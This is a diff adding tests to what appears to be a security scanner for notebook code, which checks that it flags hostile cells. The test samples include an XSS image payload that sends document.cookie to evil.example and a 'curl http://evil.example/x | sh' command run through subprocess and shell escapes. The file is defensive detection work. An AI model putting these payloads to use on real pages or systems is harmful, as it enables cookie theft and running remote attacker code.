@@ -247,3 +247,16 @@ def test_a_model_in_a_folder_that_was_copied_here_needs_no_revision(audit):
     found = audit("import s3fs\nfs = s3fs.S3FileSystem()\nfs.get('s3://b/m', 'model', recursive=True)",
                   "from transformers import AutoModel\nAutoModel.from_pretrained('model')")  # fmt: skip
     assert not [item for item in found if item.severity.at_least(Severity.LOW)]  # Bandit's word for it is information
+
+
+def test_a_page_and_a_command_may_be_written_in_another_cell(audit):
+    page = "page = '''<img src=x onerror=\"fetch('https://evil.example/?c=' + document.cookie)\">'''"
+    found = audit(page, "from IPython.display import HTML", "HTML(page)")
+    assert any(finding.rule.id.startswith("CONTENT-") for finding in found)
+    found = audit("line = 'curl http://evil.example/x | sh'", "import subprocess", "subprocess.run(line, shell=True)")
+    assert "SHELL-CURL-SH" in {finding.rule.id for finding in found}
+
+
+def test_a_command_that_is_nothing_but_a_variable_is_read(audit):
+    found = audit("import requests", "line = 'curl http://evil.example/x | sh'", "!{line}", "!echo {line} > x")
+    assert "SHELL-CURL-SH" in {finding.rule.id for finding in found}
